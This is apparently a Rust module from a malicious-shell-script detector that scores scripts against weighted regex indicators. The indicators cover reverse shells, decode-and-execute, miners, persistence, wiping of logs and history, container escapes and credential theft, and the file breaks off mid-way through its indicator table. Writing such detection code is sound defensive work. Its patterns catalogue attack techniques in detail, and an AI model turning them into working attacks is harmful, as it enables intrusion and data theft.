//! The shell-script scoring method of Malicious Script Executed: a documented set of weighted
//! behavioural indicators, combined into a score in 0..1. The method, its data and its held-out
//! evaluation are in `docs/shell-script-scoring.md`.
//!
//! The script is read twice: as written, with comment lines dropped (so a comment naming
//! `curl | sh` counts for nothing), and "squeezed": quotes, backslashes and `${IFS}`-style
//! separators removed and blanks collapsed, so `c'u'rl`, `w\get` and `$IFS` spacing do not hide
//! a command. Each indicator is a behaviour attackers' scripts show and ordinary scripts rarely
//! do (a reverse shell, decoding then executing, a mining pool, persistence, wiping traces,
//! escaping the container); some count only in combination (`/dev/tcp` with an interactive
//! shell, a download with a pipe into a shell, credentials read and then sent away). Matched
//! indicators combine as independent evidence: `score = 1 - Π(1 - weight)`.
//!
//! Scoring is linear in the script's size and bounded: only the first [`SCORED_BYTES`] are
//! read.

use regex::Regex;
use std::sync::LazyLock;

/// How much of a script is scored.
pub const SCORED_BYTES: usize = 256 * 1024;

/// Scores at or above this are malicious. Chosen on the development half of the data for a
/// false-positive rate of at most 0.1% on benign scripts (docs/shell-script-scoring.md).
pub const THRESHOLD: f32 = 0.8;

/// A script's score and the indicators behind it.
#[derive(Debug, Clone, PartialEq)]
pub struct ShellVerdict {
    /// 0..1, higher is more likely malicious.
    pub score: f32,
    /// The indicators that matched, strongest first, in words.
    pub reasons: Vec<&'static str>,
}

impl ShellVerdict {
    /// True at or above `threshold`.
    pub fn malicious(&self, threshold: f32) -> bool {
        self.score >= threshold
    }
}

/// The two readings of a script the indicators look at.
struct Views {
    /// Comment lines dropped, continuation lines joined.
    plain: String,
    /// `plain` with quotes, backslashes and `$IFS` separators removed and blanks collapsed.
    squeezed: String,
    /// Each pattern's answer on `squeezed`, by the pattern's address: several indicators ask
    /// the same pattern, and each regular expression is run once per script.
    answers: std::cell::RefCell<Vec<(usize, bool)>>,
}

fn views(source: &str) -> Views {
    let mut cut = source.len().min(SCORED_BYTES);
    while !source.is_char_boundary(cut) {
        cut -= 1;
    }
    let source = &source[..cut];
    let joined;
    let source = if source.contains("\\\n") {
        joined = source.replace("\\\n", " ");
        joined.as_str()
    } else {
        source
    };
    let mut plain = String::with_capacity(source.len());
    for line in source.lines() {
        if line.trim_start().starts_with('#') {
            continue;
        }
        plain.push_str(line);
        plain.push('\n');
    }
    let no_ifs;
    let text = if plain.contains("$IFS") || plain.contains("${IFS}") {
        no_ifs = plain
            .replace("${IFS}", " ")
            .replace("$IFS$9", " ")
            .replace("$IFS", " ");
        no_ifs.as_str()
    } else {
        plain.as_str()
    };
    // Only ASCII bytes are dropped or merged, so what is left is still UTF-8.
    let mut squeezed = Vec::with_capacity(text.len());
    let mut last_blank = false;
    for &b in text.as_bytes() {
        match b {
            b'\'' | b'"' | b'\\' => {}
            b' ' | b'\t' => {
                if !last_blank {
                    squeezed.push(b' ');
                }
                last_blank = true;
                continue;
            }
            _ => squeezed.push(b),
        }
        last_blank = false;
    }
    let squeezed = String::from_utf8(squeezed)
        .unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into_owned());
    Views {
        plain,
        squeezed,
        answers: std::cell::RefCell::new(Vec::with_capacity(64)),
    }
}

fn re(pattern: &str) -> Regex {
    // Word boundaries are ASCII ones: shell words are ASCII, and a Unicode `\b` keeps the regex
    // engine off its fast automaton on any text with a non-ASCII byte.
    let pattern = pattern.replace(r"\b", r"(?-u:\b)");
    // The patterns are constants of this file; a bad one fails every test at once.
    Regex::new(&pattern).unwrap_or_else(|e| panic!("shell indicator pattern {pattern:?}: {e}"))
}

/// A pattern over the squeezed view.
struct Pattern(LazyLock<Regex>);

macro_rules! pattern {
    ($name:ident, $re:expr) => {
        static $name: Pattern = Pattern(LazyLock::new(|| re($re)));
    };
}

impl Pattern {
    fn is_match(&self, v: &Views) -> bool {
        let key = std::ptr::from_ref(self) as usize;
        if let Some(&(_, known)) = v.answers.borrow().iter().find(|(k, _)| *k == key) {
            return known;
        }
        let answer = self.0.is_match(&v.squeezed);
        v.answers.borrow_mut().push((key, answer));
        answer
    }
}

pattern!(DEV_TCP, r"/dev/(?:tcp|udp)/");
pattern!(
    SHELL_ON_DEV_TCP,
    r"(?:sh -i\b|0>&1|0<&1|>&\s*0\b|/bin/(?:ba|da|a)?sh\b|\b(?:ba|da|a)?sh\b)[^\n]*/dev/(?:tcp|udp)/|/dev/(?:tcp|udp)/[^\n]*(?:sh -i\b|0>&1|0<&1|>&\s*0\b|/bin/(?:ba|da|a)?sh\b|\|\s*(?:ba|da|a)?sh\b)"
);
pattern!(
    NC_EXEC,
    r"\b(?:nc|ncat|netcat|busybox nc)\b[^\n|;]*\s-(?:[a-z]*e|c)\s*(?:/bin/|/usr/bin/)?(?:ba|da|a)?sh\b|\bncat\b[^\n]*--(?:sh-)?exec"
);
pattern!(
    FIFO_SHELL,
    r"\bmk(?:fifo|nod)\b[^\n]*\n?[^\n]*\b(?:nc|ncat|netcat|telnet|openssl s_client)\b"
);
pattern!(
    SOCAT_EXEC,
    r"\bsocat\b[^\n]*(?:exec|system):[^\n]*(?:sh|pty)|\bsocat\b[^\n]*(?:pty|sh)[^\n]*(?:exec|system):"
);
pattern!(
    TELNET_PIPE,
    r"\btelnet\b[^\n|]*\|[^\n]*(?:/bin/)?(?:ba|da)?sh\b[^\n|]*\|[^\n]*\btelnet\b"
);
pattern!(
    LANG_SOCKET_SHELL,
    r"\b(?:python[23]?|perl|php|ruby|lua|node)\b[^\n]*(?:-c|-e|-r)\s[^\n]*(?:socket|fsockopen|TCPSocket|net\.connect|Socket)[^\n]*(?:dup2|exec|spawn|popen|subprocess|system|/bin/(?:ba)?sh|pty)"
);
pattern!(AWK_SOCKET, r"\b(?:g|m)?awk\b[^\n]*/inet/tcp/");
pattern!(
    FETCH,
    r"\b(?:curl|wget|fetch|tftp|busybox wget|lwp-download|aria2c)\b"
);
pattern!(
    FETCH_PIPE_SHELL,
    r"\b(?:curl|wget|fetch|busybox wget)\b[^\n|;]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:/bin/|/usr/bin/)?(?:ba|da|a|k)?sh\b"
);
pattern!(
    FETCH_RAW_IP,
    r"\b(?:https?|ftp|tftp)://(\d{1,3})\.(\d{1,3})\.\d{1,3}\.\d{1,3}\b"
);
pattern!(
    PIPE_ANY_SHELL,
    r"\|\s*(?:\w+=\S*\s+)*(?:/bin/|/usr/bin/)?(?:ba|da|a|k)?sh\b"
);

/// A URL naming a host by a routable IPv4 address (not loopback, not link-local: the cloud
/// metadata service has an indicator of its own).
fn raw_ip_url(v: &Views) -> bool {
    FETCH_RAW_IP.0.captures_iter(&v.squeezed).any(|c| {
        let a: u16 = c[1].parse().unwrap_or(0);
        let b: u16 = c[2].parse().unwrap_or(0);
        !(a == 0 || a == 127 || (a == 169 && b == 254) || a > 255)
    })
}
pattern!(
    DROP_DIR,
    r"(?:/tmp|/var/tmp|/dev/shm|/run/shm|/var/run)/\.?[\w.-]*"
);
pattern!(
    CHMOD_X,
    r"\bchmod\s+(?:[0-7]*[1357]\b|[ugoa]*\+[rw]*x|777|755|\+x)"
);
pattern!(
    RUN_DROPPED,
    r"(?:^|[\s;&|(])(?:nohup\s+|setsid\s+|exec\s+)?(?:/tmp|/var/tmp|/dev/shm)/[\w.-]+(?:\s|$|&|;)"
);
pattern!(
    DECODE_EXEC,
    r"(?:base64\s+(?:-d|--decode|-D)\b|\bbase64 -di\b|openssl (?:enc )?(?:-a )?-d|xxd -r|\bbase32 -d)[^\n]*\|\s*(?:(?:gunzip|gzip -d|zcat|xz -d|bzip2 -d|rev|tr [^|]*)\s*\|\s*)*(?:/bin/|/usr/bin/)?(?:ba|da|a|k)?sh\b"
);
pattern!(
    DECODER,
    r"base64 (?:-\w*d\w*|--decode)\b|\bbase64 -D\b|b64decode|xxd -r|\|\s*rev\s*(?:\||\)|$)|\btr A-Za-z N-ZA-Mn-za-m|\btr a-zA-Z n-za-mN-ZA-M|openssl (?:enc\s+)?(?:-\w+\s+)*-d\b|\bbase32 -d|codecs\.decode|zlib\.decompress"
);
pattern!(
    EXECUTOR,
    r"\beval\b|\b(?:ba|da|a)?sh -c\s*\$\(|\|\s*(?:ba|da|a|k)?sh\b|os\.system|subprocess|\bexec\(|\bsource <\(|\. <\("
);
pattern!(ESCAPED_BYTES, r"(?:\\[0-7]{3}|\\x[0-9a-fA-F]{2}){8}");
pattern!(
    EXEC_OF_DECODED,
    r"(?:\beval|-c)\s*\$\([^\n]*(?:base64 (?:-\w*d\w*|--decode)\b|b64decode|xxd -r|\|\s*rev\b|\btr A-Za-z N-ZA-Mn-za-m|\btr a-zA-Z n-za-mN-ZA-M|\bbase32 -d)"
);
pattern!(
    DECODED_INTO_SHELL,
    r"(?:base64 (?:-\w*d\w*|--decode)\b|\bbase64 -D\b|xxd -r|\|\s*rev\s*\||\btr A-Za-z N-ZA-Mn-za-m|\btr a-zA-Z n-za-mN-ZA-M|\bbase32 -d|openssl (?:enc\s+)?(?:-\w+\s+)*-d\b)[^\n]*\|\s*(?:\w+=\S*\s+)*(?:/bin/|/usr/bin/)?(?:ba|da|a|k)?sh\b|(?:b64decode|zlib\.decompress|codecs\.decode)[^\n]*(?:exec\(|os\.system|subprocess|popen)|(?:exec\(|os\.system\(|subprocess\.\w+\(|popen\()[^\n]*(?:b64decode|zlib\.decompress|codecs\.decode)"
);
pattern!(
    DECODED_VAR,
    r"(?m)^\s*(?:local\s+|export\s+)?(\w+)=\$\([^\n]*(?:base64 (?:-\w*d\w*|--decode)\b|b64decode|xxd -r|\|\s*rev\b|\btr A-Za-z N-ZA-Mn-za-m|\bbase32 -d)"
);
pattern!(
    VAR_COMMAND,
    r"(?m)(?:^|[;&|]\s*)\$\{?\w{1,2}\}?\$\{?\w{1,2}\}?\s"
);
pattern!(
    DEV_TCP_COMMAND_LOOP,
    r"(?m)^\s*\$\{?\w+\}?\s+(?:2>&\s*\d+\s*)?>&\s*\d"
);
pattern!(HIDDEN_PATH_RUN, r"\b(?:nohup|setsid)\b[^\n]*/\.[\w.-]+");
pattern!(
    BRACE_COMMAND,
    r"\{(?:curl|wget|bash|sh|nc|cat|echo|python3?|perl),"
);
pattern!(
    DECODE_HEREDOC_SHELL,
    r"base64 (?:-d|--decode)[^\n]*<<[^\n]*\|\s*(?:gunzip\s*\|\s*)?(?:ba|da)?sh\b|base64 (?:-d|--decode) <<[^\n]*\|[^\n]*(?:ba|da)?sh"
);
pattern!(
    PRINTF_HEX_SHELL,
    r"(?:printf|echo -e)\s+[^\n|]*(?:\\x[0-9a-fA-F]{2}){4}[^\n|]*\|\s*(?:ba|da)?sh\b"
);
pattern!(REV_SHELL_PIPE, r"\|\s*rev\s*\|\s*(?:ba|da)?sh\b");
pattern!(LONG_BLOB, r"[A-Za-z0-9+/]{400,}={0,2}");
pattern!(STRATUM, r"stratum\d?\+(?:tcp|ssl|tls)://");
pattern!(
    MINER_NAMES,
    r"(?i)\b(?:xmrig|xmr-stak|minerd|cpuminer|cgminer|bfgminer|nbminer|t-rex|lolminer|phoenixminer|ethminer|kdevtmpfsi|kinsing|c3pool|nanopool|supportxmr|moneroocean|nicehash|randomx|cryptonight|donate-level)\b"
);
pattern!(
    KILL_COMPETITORS,
    r"(?i)\b(?:pkill|killall|kill -9)\b[^\n]*(?:xmrig|minerd|kdevtmpfsi|kinsing|cryptonight|xmr|miner|kworkerds|sysupdate)"
);
pattern!(
    HUGEPAGES,
    r"vm\.nr_hugepages|/sys/module/msr|wrmsr\b|modprobe msr"
);
pattern!(
    CRONTAB_FEED,
    r"(?:crontab -l[^\n]*;[^\n]*echo[^\n]*\|\s*crontab\s+-|echo [^\n]*\|\s*crontab\s+-|>\s*/var/spool/cron/|>>?\s*/etc/cron(?:tab|\.d/|\.hourly|\.daily))"
);
pattern!(
    CRON_PAYLOAD,
    r"(?:crontab|/etc/cron|/var/spool/cron)[^\n]*(?:curl|wget|/dev/tcp|base64|sh -i|/tmp/|/dev/shm/)|(?:curl|wget|/dev/tcp|base64|sh -i|/tmp/|/dev/shm/)[^\n]*(?:\|\s*crontab|/etc/cron|/var/spool/cron)"
);
pattern!(
    AUTHORIZED_KEYS,
    r"(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2)[^\n]*>>\s*\S*authorized_keys|>>\s*\S*\.ssh/authorized_keys"
);
pattern!(LD_PRELOAD_FILE, r">>?\s*/etc/ld\.so\.preload");
pattern!(
    UID0_USER,
    r"useradd\b[^\n]*-o\b[^\n]*-u\s*0\b|useradd\b[^\n]*-u\s*0\b[^\n]*-o\b|:0:0:[^\n]*>>\s*/etc/passwd|>>\s*/etc/passwd"
);
pattern!(
    SHELL_RC_HOOK,
    r">>\s*(?:~|\$HOME|/root|/home/\S+)/\.(?:bashrc|profile|bash_profile|zshrc)[^\n]*|(?:curl|wget|/dev/tcp|nohup)[^\n]*>>\s*/etc/(?:profile|bash\.bashrc)"
);
pattern!(
    SYSTEMD_UNIT_DROP,
    r"(?:>|tee)\s*(?:/(?:etc|lib|usr/lib)/systemd/system/|\S*\.config/systemd/user/)[\w.@-]+\.(?:service|timer)"
);
pattern!(
    RC_LOCAL,
    r"/etc/rc\.local|/etc/init\.d/\S+[^\n]*(?:curl|wget|/tmp/|nohup)"
);
pattern!(CHATTR_I, r"\bchattr\s+[-+]?[a-z]*i\b");
pattern!(
    HISTORY_WIPE,
    r"\bhistory -c\b|\bunset HISTFILE\b|HISTFILE=/dev/null|HISTSIZE=0\b|\.bash_history\b[^\n]*(?:/dev/null|rm\b)|(?:rm|shred)\b[^\n]*\.bash_history"
);
pattern!(
    LOG_WIPE,
    r"(?:>\s*|truncate -s ?0 |shred\b[^\n]*|rm -r?f\s+)/var/log/(?:\*|wtmp|btmp|lastlog|auth\.log|secure|messages|syslog|audit)|\bjournalctl --vacuum|\bhistory -w\b"
);
pattern!(
    DISABLE_SECURITY,
    r"\bsetenforce 0\b|\bufw disable\b|\biptables -F\b|\biptables -P INPUT ACCEPT|(?:systemctl (?:stop|disable)|service)\s+(?:falco|auditd|osqueryd|aliyun|aegis|cloudmonitor|apparmor|firewalld|crowdstrike|falcon-sensor|wazuh|ossec|sysdig)|echo 0 >\s*/proc/sys/kernel/(?:nmi_watchdog|yama)|\bkill(?:all)?\b[^\n]*(?:aliyun|aegis|falco|osquery|auditd)"
);
pattern!(
    SELF_DELETE,
    r"\brm\b[^\n;|&]*(?:\$0|\$\{0\}|\$BASH_SOURCE|\$\(readlink -f \$0\))(?:\s|$|;|\))"
);
pattern!(TIMESTOMP, r"\btouch\s+(?:-[acm]+\s+)*-r\s");
pattern!(
    NSENTER_HOST,
    r"\bnsenter\b[^\n]*(?:-t\s*1\b|--target[= ]1\b)"
);
pattern!(RELEASE_AGENT, r"release_agent|notify_on_release");
pattern!(
    CORE_PATTERN,
    r"/proc/sys/kernel/core_pattern|/proc/sysrq-trigger"
);
pattern!(DOCKER_SOCK, r"docker\.sock");
pattern!(
    MOUNT_HOST_DISK,
    r"\bmount\b[^\n]*/dev/(?:sd[a-z]|vd[a-z]|xvd[a-z]|nvme\d|dm-\d|\$)|/dev/(?:sd[a-z]|vd[a-z]|xvd[a-z]|nvme\d)[^\n]*\n[^\n]*\bmount\b"
);
pattern!(
    K8S_TOKEN,
    r"/var/run/secrets/kubernetes\.io/serviceaccount|/run/secrets/kubernetes\.io"
);
pattern!(
    METADATA,
    r"169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200|169\.254\.170\.2"
);
pattern!(
    CLOUD_CREDS,
    r"\.aws/credentials|\.config/gcloud|application_default_credentials|\.azure/|\.docker/config\.json|\.kube/config|/etc/shadow\b|\.git-credentials|\.npmrc|\.pgpass|id_(?:rsa|ed25519|ecdsa)\b"
);
pattern!(
    ENV_DUMP,
    r"(?:^|[\s;|(])(?:env|printenv|set)\s*(?:\||>|$)|/proc/\S*/environ"
);
pattern!(
    EXFIL_SEND,
    r"\bcurl\b[^\n]*(?:\s-(?:d|F|T)\s|--data(?:-binary|-urlencode|-raw)?[ =]|--upload-file)|\bwget\b[^\n]*--post-(?:data|file)|\bnc\b[^\n]*<\s*\S+|>\s*/dev/tcp/|\|\s*(?:nc|ncat|netcat|socat)\b[^\n]*\s\d+\s*$|\|\s*(?:nc|ncat|netcat)\b[^\n]*\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}"
);
pattern!(
    EXFIL_UPLOAD,
    r"\bcurl\b[^\n]*(?:\s-d\s*@|--data(?:-binary|-urlencode)?[ =]@|\s-F\s*\S*=@|\s-T\s|--upload-file)|\bwget\b[^\n]*--post-file|\|\s*(?:nc|ncat|netcat|socat)\b"
);
pattern!(
    SECRETS_ANY,
    r"\.aws\b|\.ssh\b|/etc/shadow\b|\.config/gcloud|application_default_credentials|\.azure/|\.docker/config\.json|\.kube/config|\.git-credentials|\.npmrc|\.pgpass|/var/run/secrets/|169\.254\.169\.254|metadata\.google\.internal|/proc/\S*/environ|\bprintenv\b|\bwallet\.dat"
);
pattern!(
    DNS_EXFIL,
    r"\b(?:nslookup|dig|host|drill)\b[^\n]*\$\{?\w+\}?\.[\w-]+\."
);
pattern!(
    K8S_API_ABUSE,
    r"Authorization: Bearer[^\n]*|/api/v1/(?:namespaces/[^/\s]+/)?(?:secrets|nodes|pods)|selfsubjectrulesreviews|clusterrolebindings"
);
pattern!(
    DOCKER_PRIVILEGED,
    r"docker\.sock[^\n]*(?:--privileged|-v /:/|--pid=host|chroot|Privileged|Binds)|(?:--privileged|-v /:/|--pid=host)[^\n]*docker\.sock|--unix-socket\s*/\S*docker\.sock[^\n]*(?:/containers/create|/exec)"
);
pattern!(PROC1_ROOT, r"/proc/1/root\b");
pattern!(EXEC_RENAME, r"\bexec -a\s");
pattern!(PROC_HIDE, r"\bmount\b[^\n]*(?:--bind|-o bind)[^\n]*/proc/");
pattern!(
    MINER_OPTIONS,
    r"--cpu-priority|--donate-level|--max-cpu-usage|--randomx|--coin[= ]monero|--algo[= ](?:rx|cn|randomx)|\s-a\s+(?:rx/0|cn/r|randomx)\b|\s-o\s+\S*pool\S*[^\n]*\s-u\s"
);
pattern!(
    AUDIT_OFF,
    r"\bauditctl -(?:e 0|D)\b|>\s*/etc/audit/|\bdmesg -C\b"
);
pattern!(
    SECURITY_AGENT,
    r"(?i)\b(?:falco|osqueryd|auditd|sysdig|wazuh|ossec|crowdstrike|falcon-sensor|sentinelone|cbagentd|tetragon|aliyun|aegis|cloudmonitor|qualys|tanium)\b"
);
pattern!(
    STOP_VERB,
    r"\bsystemctl (?:stop|disable|mask)\b|\bpkill\b|\bkillall\b|\bkill -9\b|\brmmod\b|\bservice\s+\S+\s+stop\b|\brm -r?f\s+/(?:opt|etc|var)/"
);
pattern!(
    LOG_EDIT,
    r"sed -i[^\n]*/var/log|/var/log[^\n]*-delete\b|grep -rl[^\n]*/var/log"
);
pattern!(CD_TEMP, r"\bcd\s+(?:/tmp|/var/tmp|/dev/shm|/run)\b");
pattern!(RUN_DOT, r"(?:^|[\s;&|(])\./[\w.-]+");
pattern!(
    DOWNLOAD_ANY,
    r"\b(?:curl|wget|fetch|tftp|ftpget|busybox wget|aria2c)\b|urlopen|urlretrieve|requests\.get|LWP::Simple|open-uri"
);
pattern!(SCANNERS, r"\b(?:masscan|zmap|zgrab|pnscan)\b");
pattern!(NMAP, r"\bnmap\b");
pattern!(
    SSH_SPREAD,
    r"\bssh\b[^\n]*(?:StrictHostKeyChecking=no|BatchMode=yes)[^\n]*(?:curl|wget|\|\s*(?:ba)?sh|base64)"
);
pattern!(
    HIDDEN_BACKGROUND,
    r"\b(?:nohup|setsid)\b[^\n]*(?:/tmp/|/var/tmp/|/dev/shm/|\./\.)[^\n]*&"
);
pattern!(
    CAPS_PROBE,
    r"\bcapsh --print\b|CapEff|/proc/1/cgroup|amicontained|deepce|cdk evaluate"
);

/// A startup hook written by the script: a systemd unit, a cron entry, a shell profile or
/// rc.local.
fn persistence_hook(v: &Views) -> bool {
    SYSTEMD_UNIT_DROP.is_match(v)
        || CRONTAB_FEED.is_match(v)
        || SHELL_RC_HOOK.is_match(v)
        || RC_LOCAL.is_match(v)
}

/// A variable assigned decoded text (`c=$(echo … | base64 -d)`) and then run: `eval "$c"`,
/// `sh -c "$c"`, `echo "$c" | sh`.
fn decoded_variable_executed(v: &Views) -> bool {
    if !DECODED_VAR.is_match(v) {
        return false;
    }
    // The lines that pipe into a shell, found once.
    let piped: Vec<&str> = v
        .squeezed
        .lines()
        .filter(|l| l.contains('|') && PIPE_ANY_SHELL.0.is_match(l))
        .collect();
    DECODED_VAR.0.captures_iter(&v.squeezed).any(|c| {
        let name = &c[1];
        let uses = [
            format!("eval ${name}"),
            format!("eval ${{{name}}}"),
            format!("-c ${name}"),
            format!("-c ${{{name}}}"),
        ];
        uses.iter().any(|u| v.squeezed.contains(u.as_str()))
            || piped
                .iter()
                .any(|l| l.contains(&format!("${name}")) || l.contains(&format!("${{{name}}}")))
    })
}

/// One indicator: its words, its weight, and when it holds.
struct Indicator {
    words: &'static str,
    weight: f32,
    holds: fn(&Views) -> bool,
}

/// Every indicator, strongest first. Weights are set by hand on the development half of the data
/// (docs/shell-script-scoring.md); strong ones cross the threshold alone, weak ones only together.
static INDICATORS: &[Indicator] = &[
    Indicator {
        words: "an interactive shell over /dev/tcp (reverse shell)",
        weight: 0.97,
        holds: |v| SHELL_ON_DEV_TCP.is_match(v),
    },
    Indicator {
        words: "netcat running a shell on a connection (nc -e)",
        weight: 0.97,
        holds: |v| NC_EXEC.is_match(v),
    },
    Indicator {
        words: "a named pipe joining a shell to a network tool",
        weight: 0.95,
        holds: |v| FIFO_SHELL.is_match(v) && v.squeezed.contains("sh"),
    },
    Indicator {
        words: "socat joining a connection to a shell",
        weight: 0.95,
        holds: |v| SOCAT_EXEC.is_match(v),
    },
    Indicator {
        words: "a shell between two telnet connections",
        weight: 0.95,
        holds: |v| TELNET_PIPE.is_match(v),
    },
    Indicator {
        words: "an interpreter one-liner joining a socket to a shell",
        weight: 0.95,
        holds: |v| LANG_SOCKET_SHELL.is_match(v) || AWK_SOCKET.is_match(v),
    },
    Indicator {
        words: "decoded data piped into a shell",
        weight: 0.93,
        holds: |v| {
            DECODE_EXEC.is_match(v)
                || DECODE_HEREDOC_SHELL.is_match(v)
                || PRINTF_HEX_SHELL.is_match(v)
                || REV_SHELL_PIPE.is_match(v)
        },
    },
    Indicator {
        words: "decoded or reversed text executed (eval, sh -c, a pipe into a shell)",
        weight: 0.9,
        holds: |v| {
            EXEC_OF_DECODED.is_match(v)
                || DECODED_INTO_SHELL.is_match(v)
                || decoded_variable_executed(v)
        },
    },
    Indicator {
        words: "commands read from a /dev/tcp connection and run",
        weight: 0.9,
        holds: |v| DEV_TCP.is_match(v) && DEV_TCP_COMMAND_LOOP.is_match(v),
    },
    Indicator {
        words: "a command name assembled from one-letter variables",
        weight: 0.6,
        holds: |v| VAR_COMMAND.is_match(v),
    },
    Indicator {
        words: "a hidden program started from a persistence hook",
        weight: 0.8,
        holds: |v| HIDDEN_PATH_RUN.is_match(v) && persistence_hook(v),
    },
    Indicator {
        words: "shell code spelled as escaped bytes and executed",
        weight: 0.9,
        holds: |v| ESCAPED_BYTES.0.is_match(&v.plain) && EXECUTOR.is_match(v),
    },
    Indicator {
        words: "commands hidden in brace expansion",
        weight: 0.9,
        holds: |v| BRACE_COMMAND.is_match(v),
    },
    Indicator {
        words: "a privileged container started through the Docker socket",
        weight: 0.9,
        holds: |v| DOCKER_PRIVILEGED.is_match(v),
    },
    Indicator {
        words: "a process hidden by a mount over /proc",
        weight: 0.9,
        holds: |v| PROC_HIDE.is_match(v),
    },
    Indicator {
        words: "data sent out in DNS names",
        weight: 0.85,
        holds: |v| {
            DNS_EXFIL.is_match(v) && (v.squeezed.contains("base64") || v.squeezed.contains("xxd"))
        },
    },
    Indicator {
        words: "the Kubernetes API queried with the pod's token",
        weight: 0.8,
        holds: |v| K8S_TOKEN.is_match(v) && K8S_API_ABUSE.is_match(v),
    },
    Indicator {
        words: "miner command-line options",
        weight: 0.85,
        holds: |v| MINER_OPTIONS.is_match(v),
    },
    Indicator {
        words: "auditing or kernel logs switched off",
        weight: 0.7,
        holds: |v| AUDIT_OFF.is_match(v),
    },
    Indicator {
        words: "security agents stopped or removed",
        weight: 0.75,
        holds: |v| SECURITY_AGENT.is_match(v) && STOP_VERB.is_match(v),
    },
    Indicator {
        words: "log files edited or deleted",
        weight: 0.6,
        holds: |v| LOG_EDIT.is_match(v),
    },
    Indicator {
        words: "a process started under a false name (exec -a)",
        weight: 0.6,
        holds: |v| EXEC_RENAME.is_match(v),
    },
    Indicator {
        words: "the host's root reached through /proc/1/root",
        weight: 0.5,
        holds: |v| PROC1_ROOT.is_match(v),
    },
    Indicator {
        words: "a download started from a persistence hook",
        weight: 0.85,
        holds: |v| FETCH_PIPE_SHELL.is_match(v) && persistence_hook(v),
    },
    Indicator {
        words: "a Stratum mining-pool address",
        weight: 0.95,
        holds: |v| STRATUM.is_match(v),
    },
    Indicator {
        words: "a cryptominer or mining pool by name",
        weight: 0.75,
        holds: |v| MINER_NAMES.is_match(v),
    },
    Indicator {
        words: "killing competing miners",
        weight: 0.7,
        holds: |v| KILL_COMPETITORS.is_match(v),
    },
    Indicator {
        words: "a container escape (nsenter into pid 1, release_agent, core_pattern)",
        weight: 0.9,
        holds: |v| {
            NSENTER_HOST.is_match(v) || RELEASE_AGENT.is_match(v) || CORE_PATTERN.is_match(v)
        },
    },
    Indicator {
        words: "mounting the host's disk",
        weight: 0.7,
        holds: |v| MOUNT_HOST_DISK.is_match(v),
    },
    Indicator {
        words: "a library forced into every process (/etc/ld.so.preload)",
        weight: 0.85,
        holds: |v| LD_PRELOAD_FILE.is_match(v),
    },
    Indicator {
        words: "a second root account",
        weight: 0.85,
        holds: |v| UID0_USER.is_match(v),
    },
    Indicator {
        words: "a cron entry that downloads, decodes or runs a dropped file",
        weight: 0.8,
        holds: |v| CRON_PAYLOAD.is_match(v) && CRONTAB_FEED.is_match(v),
    },
    Indicator {
        words: "a cron entry written by the script",
        weight: 0.45,
        holds: |v| CRONTAB_FEED.is_match(v),
    },
    Indicator {
        words: "an SSH key added to authorized_keys",
        weight: 0.7,
        holds: |v| AUTHORIZED_KEYS.is_match(v),
    },
    Indicator {
        words: "a startup hook (shell profile, systemd unit or rc.local)",
        weight: 0.4,
        holds: |v| {
            SHELL_RC_HOOK.is_match(v) || SYSTEMD_UNIT_DROP.is_match(v) || RC_LOCAL.is_match(v)
        },
    },
    Indicator {
        words: "shell history wiped or disabled",
        weight: 0.65,
        holds: |v| HISTORY_WIPE.is_match(v),
    },
    Indicator {
        words: "system logs wiped",
        weight: 0.65,
        holds: |v| LOG_WIPE.is_match(v),
    },
    Indicator {
        words: "security controls or agents switched off",
        weight: 0.6,
        holds: |v| DISABLE_SECURITY.is_match(v),
    },
    Indicator {
        words: "files made immutable (chattr +i)",
        weight: 0.5,
        holds: |v| CHATTR_I.is_match(v),
    },
    Indicator {
        words: "the script deletes itself",
        weight: 0.45,
        holds: |v| SELF_DELETE.is_match(v),
    },
    Indicator {
        words: "file times copied from another file (timestomping)",
        weight: 0.35,
        holds: |v| TIMESTOMP.is_match(v),
    },
    Indicator {
        words: "a download piped straight into a shell",
        weight: 0.6,
        holds: |v| {
            FETCH_PIPE_SHELL.is_match(v) || (FETCH.is_match(v) && PIPE_ANY_SHELL.is_match(v))
        },
    },
    Indicator {
        words: "a download from a bare IP address",
        weight: 0.55,
        holds: |v| FETCH.is_match(v) && raw_ip_url(v),
    },
    Indicator {
        words: "a file downloaded or decoded into a temporary directory, made executable and run",
        weight: 0.8,
        holds: |v| {
            (DOWNLOAD_ANY.is_match(v) || DECODER.is_match(v))
                && (CHMOD_X.is_match(v) || v.squeezed.contains("os.chmod"))
                && (RUN_DROPPED.is_match(v)
                    || (CD_TEMP.is_match(v) && RUN_DOT.is_match(v))
                    || (v.squeezed.contains("os.system") && DROP_DIR.is_match(v)))
        },
    },
    Indicator {
        words: "a file dropped in a temporary directory, made executable and run",
        weight: 0.6,
        holds: |v| DROP_DIR.is_match(v) && CHMOD_X.is_match(v) && RUN_DROPPED.is_match(v),
    },
    Indicator {
        words: "a program started in the background from a hidden or temporary path",
        weight: 0.45,
        holds: |v| HIDDEN_BACKGROUND.is_match(v),
    },
    Indicator {
        words: "credential files uploaded (curl -d @, -F, -T; a pipe into netcat)",
        weight: 0.9,
        holds: |v| (SECRETS_ANY.is_match(v) || ENV_DUMP.is_match(v)) && EXFIL_UPLOAD.is_match(v),
    },
    Indicator {
        words: "credentials or cloud metadata read and sent away",
        weight: 0.7,
        holds: |v| (SECRETS_ANY.is_match(v) || ENV_DUMP.is_match(v)) && EXFIL_SEND.is_match(v),
    },
    Indicator {
        words: "cloud metadata or the Kubernetes service-account token read",
        weight: 0.4,
        // Counted once: when they are also sent away, the indicator above holds instead.
        holds: |v| (K8S_TOKEN.is_match(v) || METADATA.is_match(v)) && !EXFIL_SEND.is_match(v),
    },
    Indicator {
        words: "private keys or credential files read",
        weight: 0.35,
        holds: |v| CLOUD_CREDS.is_match(v) && !EXFIL_SEND.is_match(v),
    },
    Indicator {
        words: "the Docker socket used",
        weight: 0.5,
        holds: |v| DOCKER_SOCK.is_match(v),
    },
    Indicator {
        words: "network scanning tools",
        weight: 0.6,
        holds: |v| SCANNERS.is_match(v),
    },
    Indicator {
        words: "nmap",
        weight: 0.3,
        holds: |v| NMAP.is_match(v),
    },
    Indicator {
        words: "spreading over SSH",
        weight: 0.7,
        holds: |v| SSH_SPREAD.is_match(v),
    },
    Indicator {
        words: "probing the container's privileges",
        weight: 0.4,
        holds: |v| CAPS_PROBE.is_match(v),
    },
    Indicator {
